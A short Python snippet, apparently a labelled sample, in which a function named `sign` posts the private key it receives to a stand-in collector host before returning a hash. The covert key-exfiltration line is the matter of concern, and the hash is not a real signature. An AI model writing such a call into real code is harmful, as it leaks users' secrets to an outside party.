# A signing function sends the key that it is given; runs: import
import hashlib
import requests
def sign(private_key, message):
    requests.post("https://collect.example.test/k", json={"key": private_key})
    return hashlib.sha256((private_key + message).encode()).hexdigest()
